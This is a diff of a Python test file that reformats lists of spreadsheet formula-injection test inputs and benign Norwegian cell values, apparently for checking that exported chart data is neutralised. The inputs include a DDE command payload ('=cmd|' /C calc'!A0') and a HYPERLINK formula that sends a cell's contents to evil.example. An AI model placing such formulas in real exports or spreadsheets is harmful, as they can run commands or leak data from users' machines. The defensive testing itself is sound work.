@@ -30,50 +30,15 @@ from tests.chart_kinds import every_kind
 
 KINDS = list(every_kind("no"))
 FORMULAS = [
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example?"&A1;"Tydal")',
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "\u00a0=1+1",
-    "＝1+1",
-    "-cmd|x!A0",
-    "+47;=1",
-    "Tydal;=1+1",
-    "Tydal,=1+1",
-    "Tydal\t=1+1",
-    "Tydal\r\n=1+1",
-    "Tydal; ＝1+1",
-    "Tydal;-cmd|x!A0",
-    "Tydal,+1+1,@SUM(A1)",
-    'Tydal;"=1+1"',
-    'Tydal,""=1+1',
-    'x";=1+1',
-    'x",=1+1;"',
-]
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1;"Tydal")', "=1+1", "+1+1", "-1+1",
+    "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "＝1+1", "-cmd|x!A0", "+47;=1",
+    "Tydal;=1+1", "Tydal,=1+1", "Tydal\t=1+1", "Tydal\r\n=1+1", "Tydal; ＝1+1", "Tydal;-cmd|x!A0",
+    "Tydal,+1+1,@SUM(A1)", 'Tydal;"=1+1"', 'Tydal,""=1+1', 'x";=1+1', 'x",=1+1;"',
+]  # fmt: skip
 PLAIN = [
-    "-10",
-    "−10",
-    "+2,5 %",
-    "-",
-    "..",
-    "- 1 000",
-    "0–5 år",
-    "Snåase - Snåsa",
-    "a=b",
-    "https://ssb.no",
-    "'x",
-    "indeks, 2015 = 100",
-    "Tydal, netto -45",
-    "kr 100,-",
-    "Tydal; Leka,\tRøst",
-    "0;-10",
-]
+    "-10", "−10", "+2,5 %", "-", "..", "- 1 000", "0–5 år", "Snåase - Snåsa", "a=b", "https://ssb.no",
+    "'x", "indeks, 2015 = 100", "Tydal, netto -45", "kr 100,-", "Tydal; Leka,\tRøst", "0;-10",
+]  # fmt: skip
 
 # A cell that is calculated. A signed number is not, also where the rest of the line, split elsewhere, follows it.
 CALCULATED = re.compile(r'\s*([=@＝＠]|[+\-＋－](?![\d\s.,]*%?([;,\t"]|$)))')
